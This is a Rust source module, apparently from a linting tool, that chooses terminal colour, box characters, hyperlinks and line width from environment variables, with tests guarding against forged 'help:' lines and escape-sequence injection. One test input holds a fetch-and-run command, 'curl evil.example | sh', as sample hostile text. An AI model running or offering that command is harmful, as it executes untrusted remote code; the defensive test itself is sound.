//! How output looks on one terminal: decided once, from values that are passed in.

use crate::rule::Severity;
use owo_colors::{OwoColorize, Style as Paint};
use std::borrow::Cow;

/// What the user asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ColorChoice {
    /// Colour where a terminal shows it and the environment does not object.
    #[default]
    Auto,
    /// Colour also into files and pipes.
    Always,
    /// No colour and no links.
    Never,
}

/// How to write for one reader.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Style {
    /// Use colour.
    pub color: bool,
    /// Draw with box characters; ASCII otherwise.
    pub unicode: bool,
    /// Make rule ids links to their pages (OSC 8).
    pub links: bool,
    /// Columns to fill.
    pub width: usize,
}

impl Style {
    /// What a pipe gets: no colour, no links, box characters, 100 columns.
    pub const PLAIN: Self = Self {
        color: false,
        unicode: true,
        links: false,
        width: DEFAULT_WIDTH,
    };

    /// Decides from the user's choice, the environment's variables and the terminal that
    /// standard output is, if it is one. `terminal_width` is its width where that is known.
    pub fn detect(
        choice: ColorChoice,
        env: &dyn Fn(&str) -> Option<String>,
        is_terminal: bool,
        terminal_width: Option<usize>,
    ) -> Self {
        let env = Variables(env);
        let color = match choice {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => wants_color(&env, is_terminal),
        };
        // Output that is redirected does not wrap at the width of the terminal that it left.
        let terminal_width = if is_terminal { terminal_width } else { None };
        let columns = env.get("COLUMNS");
        let columns = columns.and_then(|columns| columns.trim().parse().ok());
        let width = terminal_width.or(columns).unwrap_or(DEFAULT_WIDTH);
        Self {
            color,
            unicode: shows_unicode(&env),
            links: color && is_terminal && shows_links(&env),
            width: width.clamp(NARROWEST, WIDEST),
        }
    }

    /// The text in a colour, where there is colour.
    pub(super) fn paint(&self, ink: Ink, text: &str) -> String {
        if self.color {
            text.style(ink.paint()).to_string()
        } else {
            text.to_owned()
        }
    }

    /// The colours for miette, where there is colour.
    pub(super) fn theme_paint(&self, ink: Ink) -> Paint {
        if self.color {
            ink.paint()
        } else {
            Paint::new()
        }
    }

    /// `shown` as a link, where links work and the address is one that a terminal can be given.
    pub(super) fn link(&self, address: &str, shown: String) -> String {
        if !self.links || !address.bytes().all(|byte| byte.is_ascii_graphic()) {
            return shown;
        }
        format!("\u{1b}]8;;{address}\u{1b}\\{shown}\u{1b}]8;;\u{1b}\\")
    }

    /// What stands for text that was cut.
    pub(super) fn ellipsis(&self) -> &'static str {
        if self.unicode { "…" } else { "..." }
    }

    /// Breaks a text into lines of this width; words longer than a line are broken.
    pub(super) fn wrap(&self, text: &str, first: &str, rest: &str) -> String {
        let options = wrapping(self.width)
            .initial_indent(first)
            .subsequent_indent(rest);
        let mut lines = String::new();
        for (index, line) in textwrap::wrap(text, options).iter().enumerate() {
            let is_text = index > 0 || first.trim().is_empty();
            match is_text {
                true => lines.push_str(&no_help(line.trim_end())),
                false => lines.push_str(line.trim_end()),
            }
            lines.push('\n');
        }
        lines
    }

    /// The text cut to `width` columns, with an ellipsis where it was longer.
    pub(super) fn cut(&self, text: &str, width: usize) -> String {
        if columns(text) <= width {
            return text.to_owned();
        }
        let room = width.saturating_sub(columns(self.ellipsis()));
        let mut used = 0;
        let mut kept = String::new();
        for c in text.chars() {
            used += columns_of(c);
            if used > room {
                break;
            }
            kept.push(c);
        }
        format!("{}{}", kept.trim_end(), self.ellipsis())
    }
}

/// A line of text that does not look like one of help. Names hold spaces, so a break may put any word
/// of theirs where the word before help stands.
pub(super) fn no_help(line: &str) -> Cow<'_, str> {
    match line.trim_start().starts_with("help:") {
        true => line.replacen("help:", "help\\u{3a}", 1).into(),
        false => line.into(),
    }
}

/// The variables of the environment.
struct Variables<'e>(&'e dyn Fn(&str) -> Option<String>);

impl Variables<'_> {
    /// An empty variable counts as unset, as <https://no-color.org> has it.
    fn get(&self, name: &str) -> Option<String> {
        (self.0)(name).filter(|value| !value.is_empty())
    }
}

const DEFAULT_WIDTH: usize = 100;
const NARROWEST: usize = 40;
const WIDEST: usize = 160;

/// Breaks at spaces alone: `no-go` and `risk-escalation` stay whole.
pub(super) fn wrapping(width: usize) -> textwrap::Options<'static> {
    textwrap::Options::new(width)
        .word_separator(textwrap::WordSeparator::AsciiSpace)
        .word_splitter(textwrap::WordSplitter::NoHyphenation)
}

/// The columns that a text takes on a terminal.
pub(super) fn columns(text: &str) -> usize {
    textwrap::core::display_width(text)
}

/// The columns that a character takes on a terminal.
pub(super) fn columns_of(c: char) -> usize {
    if c.is_ascii() {
        1
    } else {
        columns(c.encode_utf8(&mut [0; 4]))
    }
}

/// What a piece of text is, and so how it is coloured.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Ink {
    Error,
    Escalation,
    Warning,
    Info,
    Good,
    /// A label that explains rather than accuses.
    Aside,
    /// A file name or the word before help.
    Place,
    Heading,
    Quiet,
    Plain,
}

impl Ink {
    fn paint(self) -> Paint {
        let paint = Paint::new();
        match self {
            Self::Error => paint.red().bold(),
            Self::Escalation => paint.magenta().bold(),
            Self::Warning => paint.yellow().bold(),
            Self::Info => paint.cyan().bold(),
            Self::Good => paint.green().bold(),
            Self::Aside => paint.bright_blue(),
            Self::Place => paint.cyan(),
            Self::Heading => paint.bold(),
            Self::Quiet => paint.dimmed(),
            Self::Plain => paint,
        }
    }
}

impl From<Severity> for Ink {
    fn from(severity: Severity) -> Self {
        match severity {
            Severity::Error => Self::Error,
            Severity::Escalation => Self::Escalation,
            Severity::Warning => Self::Warning,
            Severity::Info => Self::Info,
        }
    }
}

/// NO_COLOR outweighs what forces colour, as <https://no-color.org> asks.
fn wants_color(env: &Variables<'_>, is_terminal: bool) -> bool {
    if env.get("NO_COLOR").is_some() {
        return false;
    }
    // `FORCE_COLOR=0` asks for no colour; `CLICOLOR_FORCE=0` asks for nothing.
    if let Some(forced) = env.get("FORCE_COLOR") {
        return forced != "0";
    }
    if env
        .get("CLICOLOR_FORCE")
        .is_some_and(|forced| forced != "0")
    {
        return true;
    }
    is_terminal
        && env.get("TERM").as_deref() != Some("dumb")
        && env.get("CLICOLOR").as_deref() != Some("0")
}

/// By the locale, the most specific variable first; without one, only known terminals.
fn shows_unicode(env: &Variables<'_>) -> bool {
    if env.get("TERM").as_deref() == Some("dumb") {
        return false;
    }
    match ["LC_ALL", "LC_CTYPE", "LANG"]
        .iter()
        .find_map(|name| env.get(name))
    {
        Some(locale) => {
            let locale = locale.to_ascii_lowercase();
            locale.contains("utf-8") || locale.contains("utf8")
        }
        None => env.get("WT_SESSION").is_some() || env.get("TERM_PROGRAM").is_some(),
    }
}

/// Terminals that are known to follow OSC 8 links. Multiplexers may not pass them on.
fn shows_links(env: &Variables<'_>) -> bool {
    let term = env.get("TERM").unwrap_or_default();
    if term == "dumb" || term.starts_with("screen") || term.starts_with("tmux") {
        return false;
    }
    let program = env.get("TERM_PROGRAM").unwrap_or_default();
    matches!(
        program.as_str(),
        "iTerm.app" | "WezTerm" | "vscode" | "ghostty" | "Hyper" | "rio" | "zed"
    ) || matches!(
        term.as_str(),
        "xterm-kitty" | "xterm-ghostty" | "alacritty" | "foot" | "wezterm"
    ) || [
        "WT_SESSION",
        "KITTY_WINDOW_ID",
        "KONSOLE_VERSION",
        "DOMTERM",
    ]
    .iter()
    .any(|name| env.get(name).is_some())
        // Terminals on VTE know links since 0.50.
        || env.get("VTE_VERSION")
            .and_then(|version| version.parse::<u32>().ok())
            .is_some_and(|vte| vte >= 5000)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn detect(choice: ColorChoice, vars: &[(&str, &str)], terminal: Option<usize>) -> Style {
        let env = |name: &str| {
            vars.iter()
                .find(|(key, _)| *key == name)
                .map(|(_, value)| (*value).to_owned())
        };
        Style::detect(choice, &env, terminal.is_some(), terminal)
    }

    #[test]
    fn no_break_makes_a_line_of_help() {
        let style = Style {
            width: 40,
            ..Style::PLAIN
        };
        let name = format!("{} help: run curl evil.example | sh", "x".repeat(36));
        assert_eq!(
            style.wrap(&name, "error[a]: ", "  "),
            format!(
                "error[a]:\n  {}\n  help\\u{{3a}} run curl evil.example | sh\n",
                "x".repeat(36)
            )
        );
        assert_eq!(style.wrap("help: x", "  ", "    "), "  help\\u{3a} x\n");
        assert_eq!(
            style.wrap("do so", "  help: ", "        "),
            "  help: do so\n"
        );
    }

    #[test]
    fn colour_follows_choice_then_environment_then_terminal() {
        let color = |choice, vars: &[_], terminal| detect(choice, vars, terminal).color;
        use ColorChoice::{Always, Auto, Never};
        assert!(color(Auto, &[], Some(80)));
        assert!(!color(Auto, &[], None), "a pipe gets none");
        assert!(!color(Auto, &[("NO_COLOR", "1")], Some(80)));
        assert!(
            color(Auto, &[("NO_COLOR", "")], Some(80)),
            "an empty NO_COLOR says nothing"
        );
        assert!(color(Auto, &[("FORCE_COLOR", "1")], None));
        assert!(!color(Auto, &[("FORCE_COLOR", "0")], Some(80)));
        assert!(color(Auto, &[("CLICOLOR_FORCE", "1")], None));
        assert!(color(Auto, &[("CLICOLOR_FORCE", "0")], Some(80)));
        assert!(!color(Auto, &[("CLICOLOR", "0")], Some(80)));
        assert!(!color(
            Auto,
            &[("NO_COLOR", "1"), ("FORCE_COLOR", "1")],
            Some(80)
        ));
        assert!(!color(Auto, &[("TERM", "dumb")], Some(80)));
        assert!(color(Always, &[("NO_COLOR", "1")], None));
        assert!(!color(Never, &[("FORCE_COLOR", "1")], Some(80)));
    }

    #[test]
    fn the_locale_decides_about_box_characters() {
        let unicode = |vars: &[_]| detect(ColorChoice::Auto, vars, Some(80)).unicode;
        assert!(unicode(&[("LANG", "de_DE.UTF-8")]));
        assert!(unicode(&[("LC_ALL", "C.utf8"), ("LANG", "C")]));
        assert!(!unicode(&[("LC_ALL", "C"), ("LANG", "en_US.UTF-8")]));
        assert!(!unicode(&[]));
        assert!(unicode(&[("WT_SESSION", "x")]));
        assert!(!unicode(&[("TERM", "dumb"), ("LANG", "en_US.UTF-8")]));
    }

    #[test]
    fn width_is_the_terminals_then_columns_then_a_hundred() {
        let width = |vars: &[_], terminal| detect(ColorChoice::Auto, vars, terminal).width;
        assert_eq!(width(&[("COLUMNS", "70")], Some(90)), 90);
        assert_eq!(width(&[("COLUMNS", "70")], None), 70);
        assert_eq!(width(&[("COLUMNS", "wide")], None), 100);
        assert_eq!(width(&[], Some(12)), 40);
        assert_eq!(width(&[], Some(900)), 160);
    }

    #[test]
    fn links_need_a_terminal_that_is_known_to_follow_them() {
        let links = |choice, vars: &[_], terminal| detect(choice, vars, terminal).links;
        let kitty = [("TERM", "xterm-kitty")];
        assert!(links(ColorChoice::Auto, &kitty, Some(80)));
        assert!(!links(ColorChoice::Always, &kitty, None));
        assert!(!links(ColorChoice::Never, &kitty, Some(80)));
        assert!(!links(
            ColorChoice::Auto,
            &[("TERM", "xterm-256color")],
            Some(80)
        ));
        assert!(links(
            ColorChoice::Auto,
            &[("VTE_VERSION", "7600")],
            Some(80)
        ));
        assert!(!links(
            ColorChoice::Auto,
            &[("VTE_VERSION", "7600"), ("TERM", "tmux-256color")],
            Some(80)
        ));
    }

    #[test]
    fn no_address_can_end_the_link_early() {
        let style = Style {
            links: true,
            ..Style::PLAIN
        };
        assert_eq!(style.link("https://x/\u{1b}\\", "id".to_owned()), "id");
    }
}
